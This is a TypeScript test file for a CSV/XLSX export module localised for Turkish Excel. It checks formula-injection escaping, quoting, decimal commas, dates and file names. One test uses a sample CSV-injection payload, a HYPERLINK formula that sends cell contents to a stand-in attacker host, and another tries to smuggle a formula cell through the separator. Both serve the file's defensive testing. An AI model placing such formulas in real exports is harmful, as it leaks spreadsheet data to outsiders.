import { csvField, csvNumber, escapeSpreadsheetCell, fileNamePart, isFormulaLike, toCsv, toSheetRows, UTF8_BOM } from '../cells.ts';

/** The data lines of a CSV document (BOM and the final CRLF removed). */
const lines = (csv: string) => csv.slice(UTF8_BOM.length).replace(/\r\n$/, '').split('\r\n');

/** Reads a ';' CSV back as a spreadsheet would (RFC 4180 quotes), to check cells, not text. */
function readCsv(csv: string): string[][] {
  const records: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.slice(UTF8_BOM.length);
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ';') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      records.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return records;
}

describe('spreadsheet cell escaping (ASVS 5.0 §1.2.10)', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('escapes text starting with %j', (trigger) => {
    expect(escapeSpreadsheetCell(`${trigger}1+1`)).toBe(`'${trigger}1+1`);
    expect(isFormulaLike(`${trigger}x`)).toBe(true);
  });

  it('makes =HYPERLINK(...) inert in CSV and XLSX rows', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1;"Tıkla")';
    const dataLine = lines(toCsv(['Ad'], [[evil]]))[1];
    expect(dataLine).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Tıkla"")"`);
    expect(toSheetRows(['Ad'], [[evil]])[1][0]).toBe(`'${evil}`);
  });

  it('escapes every trigger in a CSV row, the separator cannot smuggle a second formula cell', () => {
    const [, row] = lines(toCsv(['a', 'b', 'c', 'd'], [['+90 555', '-2+3', '@SUM(A1)', 'x;=1+1']]));
    expect(row).toBe(`'+90 555;'-2+3;'@SUM(A1);"x;=1+1"`);
    const cells = readCsv(toCsv(['a', 'b', 'c', 'd'], [['+90 555', '-2+3', '@SUM(A1)', 'x;=1+1']]))[1];
    expect(cells).toEqual(["'+90 555", "'-2+3", "'@SUM(A1)", 'x;=1+1']);
    expect(cells.some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
  });

  it('keeps numbers typed, negative numbers included, and plain text unchanged', () => {
    expect(escapeSpreadsheetCell(-5)).toBe(-5);
    expect(escapeSpreadsheetCell(12.5)).toBe(12.5);
    expect(escapeSpreadsheetCell(Number.NaN)).toBe('');
    expect(escapeSpreadsheetCell(null)).toBe('');
    expect(escapeSpreadsheetCell(undefined)).toBe('');
    expect(escapeSpreadsheetCell(true)).toBe(true);
    expect(escapeSpreadsheetCell('Çağla Öztürk')).toBe('Çağla Öztürk');
    expect(escapeSpreadsheetCell('a=b')).toBe('a=b');
    expect(escapeSpreadsheetCell('')).toBe('');
  });
});

describe('CSV for Turkish Excel', () => {
  it('writes UTF-8 with a BOM, ";" separators and CRLF lines', () => {
    const csv = toCsv(['Öğrenci', 'Puan'], [['Şule Işık', 42], ['-1', -1]]);
    expect(csv).toBe('\uFEFFÖğrenci;Puan\r\nŞule Işık;42\r\n\'-1;-1\r\n');
  });

  it('writes numbers with a decimal comma and no thousands separator (Excel reads them as numbers)', () => {
    expect(csvNumber(12.5)).toBe('12,5');
    expect(csvNumber(-1234.75)).toBe('-1234,75');
    expect(csvNumber(1234567)).toBe('1234567');
    expect(csvNumber(0.1 + 0.2)).toBe('0,3');
    expect(lines(toCsv(['CP', 'FR'], [[87.3, -0.5]]))[1]).toBe('87,3;-0,5');
    // a decimal comma inside a ';' file needs no quotes
    expect(csvField(3.25)).toBe('3,25');
  });

  it('writes dates as tr-TR day.month.year hour:minute in Turkey time', () => {
    expect(csvField(new Date('2026-11-24T06:30:00Z'))).toBe('24.11.2026 09:30');
    expect(csvField(new Date('invalid'))).toBe('');
    expect(toSheetRows(['Tarih'], [[new Date('2026-01-02T21:15:00Z')]])[1][0]).toBe('03.01.2026 00:15');
  });

  it('quotes fields with the separator, a comma, quotes and line breaks; doubles quotes', () => {
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('x\ny')).toBe('"x\ny"');
    expect(csvField('x\r\ny')).toBe('"x\r\ny"');
    expect(csvField('düz metin')).toBe('düz metin');
    expect(csvField(3)).toBe('3');
    expect(csvField(true)).toBe('Evet');
    expect(csvField(false)).toBe('Hayır');
    expect(csvField(null)).toBe('');
  });

  it('a quoted multi-line cell stays one record when read back', () => {
    const csv = toCsv(['Not', 'Puan'], [['satır 1\r\nsatır "2"; son', 7]]);
    expect(csv).toBe('\uFEFFNot;Puan\r\n"satır 1\r\nsatır ""2""; son";7\r\n');
    expect(readCsv(csv)).toEqual([['Not', 'Puan'], ['satır 1\r\nsatır "2"; son', '7']]);
  });

  it('builds file-name-safe parts', () => {
    expect(fileNamePart(' Ali  Yıldız ')).toBe('Ali_Yıldız');
    expect(fileNamePart('a/b:c')).toBe('abc');
  });
});
